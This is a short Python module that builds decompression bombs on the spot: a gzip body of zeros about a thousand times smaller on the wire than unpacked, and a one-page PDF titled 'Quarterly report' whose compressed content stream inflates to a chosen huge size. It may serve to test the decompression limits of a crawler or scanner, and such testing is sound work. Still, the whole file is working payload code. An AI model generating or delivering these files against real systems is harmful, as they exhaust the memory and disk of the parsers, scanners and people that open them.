"""Hostile downloads made on the spot: a gzip body of zeros, and a PDF whose one page inflates hugely."""

from __future__ import annotations

import zlib


def gzip_bomb(unpacked: int) -> bytes:
    """`unpacked` zero bytes, gzip-compressed (about a thousandth of the size on the wire)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1 << 20)
    parts = [packer.compress(block) for _ in range(unpacked >> 20)]
    parts.append(packer.compress(bytes(unpacked % (1 << 20))))
    parts.append(packer.flush())
    return b"".join(parts)


def pdf_bomb(unpacked: int, text: str = "Quarterly report") -> bytes:
    """A one-page PDF whose content stream, FlateDecode-compressed, unpacks to about `unpacked` bytes:
    one line of text, then spaces (as the 306 KB file that unpacked to 300 MB)."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET\n".encode())]
    block = b" " * (1 << 20)
    parts += [packer.compress(block) for _ in range(unpacked >> 20)]
    parts += [packer.compress(b" " * (unpacked % (1 << 20))), packer.flush()]
    return minimal_pdf([b"".join(parts)])


def minimal_pdf(streams: list[bytes]) -> bytes:
    """A PDF with one page per FlateDecode content stream, all in Helvetica, written by hand."""
    pages = len(streams)
    font = 3 + 2 * pages
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{' '.join(f'{3 + 2 * i} 0 R' for i in range(pages))}] /Count {pages} >>".encode(),
    ]
    for index, stream in enumerate(streams):
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {4 + 2 * index} 0 R "
            f"/Resources << /Font << /F1 {font} 0 R >> >> >>".encode()
        )
        objects.append(f"<< /Length {len(stream)} /Filter /FlateDecode >>\nstream\n".encode() + stream + b"\nendstream")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    table = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n".encode()
    return bytes(out)
